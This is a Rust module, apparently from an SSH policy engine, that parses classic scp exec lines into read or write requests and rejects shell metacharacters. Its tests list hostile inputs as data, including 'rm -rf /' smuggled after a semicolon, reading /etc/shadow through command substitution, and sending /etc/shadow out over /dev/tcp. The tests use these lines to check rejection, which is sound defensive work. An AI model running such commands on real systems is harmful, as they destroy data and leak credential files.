//! Classic scp (`scp -O`, or any client running `scp -t`/`scp -f` on the far side): the exec
//! line is recognised here so it is decided as a file write (`-t`, "to") or read (`-f`,
//! "from") on its path instead of as a shell command. Only a plain line is recognised — the
//! words `scp`, known flags, an optional `--`, one path, with shell quoting undone; anything
//! else (a `;`, a pipe, `$`, a redirection) is left to the shell policy.
use policies::engine::SftpOp;

/// A recognised classic scp request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScpRequest {
    /// Write for `-t`, read for `-f`.
    pub op: SftpOp,
    /// `-r`: a directory tree.
    pub recursive: bool,
    /// The path on the target.
    pub path: String,
}

/// Splits a line into words undoing `'...'`, `"..."` and `\x`; `None` on any unquoted shell
/// metacharacter or an unterminated quote.
fn words(line: &str) -> Option<Vec<String>> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if in_word {
                    out.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => cur.push(c),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '"' => break,
                        '\\' => {
                            let n = chars.next()?;
                            if !matches!(n, '"' | '\\' | '$' | '`') {
                                cur.push('\\');
                            }
                            cur.push(n);
                        }
                        '$' | '`' => return None,
                        c => cur.push(c),
                    }
                }
            }
            '\\' => {
                in_word = true;
                cur.push(chars.next()?);
            }
            ';' | '&' | '|' | '<' | '>' | '$' | '`' | '(' | ')' | '\n' | '\r' | '*' | '?' | '['
            | '~' | '#' | '{' => return None,
            c => {
                in_word = true;
                cur.push(c);
            }
        }
    }
    if in_word {
        out.push(cur);
    }
    Some(out)
}

/// Recognises `scp [-v -r -p -d -q -T] -t|-f [--] PATH`.
pub fn parse_scp(line: &str) -> Option<ScpRequest> {
    let words = words(line)?;
    let (program, rest) = words.split_first()?;
    if program != "scp" && !program.ends_with("/scp") {
        return None;
    }
    let mut op = None;
    let mut recursive = false;
    let mut paths = Vec::new();
    let mut options_done = false;
    for w in rest {
        if !options_done && w == "--" {
            options_done = true;
        } else if !options_done && w.starts_with('-') && w.len() > 1 {
            for flag in w.chars().skip(1) {
                match flag {
                    't' | 'f' => {
                        let this = if flag == 't' {
                            SftpOp::Write
                        } else {
                            SftpOp::Read
                        };
                        if op.is_some_and(|o| o != this) {
                            return None;
                        }
                        op = Some(this);
                    }
                    'r' => recursive = true,
                    'v' | 'p' | 'd' | 'q' | 'T' => {}
                    _ => return None,
                }
            }
        } else {
            paths.push(w.clone());
        }
    }
    match (op, paths.as_slice()) {
        (Some(op), [path]) if !path.is_empty() => Some(ScpRequest {
            op,
            recursive,
            path: path.clone(),
        }),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn upload_and_download_lines() {
        assert_eq!(
            parse_scp("scp -t /tmp/"),
            Some(ScpRequest {
                op: SftpOp::Write,
                recursive: false,
                path: "/tmp/".into()
            })
        );
        assert_eq!(
            parse_scp("scp -v -r -d -t -- '/tmp/my dir'"),
            Some(ScpRequest {
                op: SftpOp::Write,
                recursive: true,
                path: "/tmp/my dir".into()
            })
        );
        assert_eq!(
            parse_scp("scp -f -- /etc/hosts"),
            Some(ScpRequest {
                op: SftpOp::Read,
                recursive: false,
                path: "/etc/hosts".into()
            })
        );
    }

    #[test]
    fn evasions_are_left_to_the_shell_policy() {
        for line in [
            "scp -t /tmp/x; rm -rf /",
            "scp -t /tmp/x && reboot",
            "scp -f $(cat /etc/shadow)",
            "scp -t /tmp/`id`",
            "scp -f /etc/shadow > /dev/tcp/x/1",
            "scp -t -f /tmp/x",
            "scp -t /a /b",
            "scp -Z -t /tmp",
            "scp /tmp/x",
            "scpx -t /tmp",
            "scp -f '/unterminated",
            "scp -f \"/a$HOME\"",
            "scp -t /tmp\nreboot",
        ] {
            assert_eq!(parse_scp(line), None, "{line}");
        }
    }
}
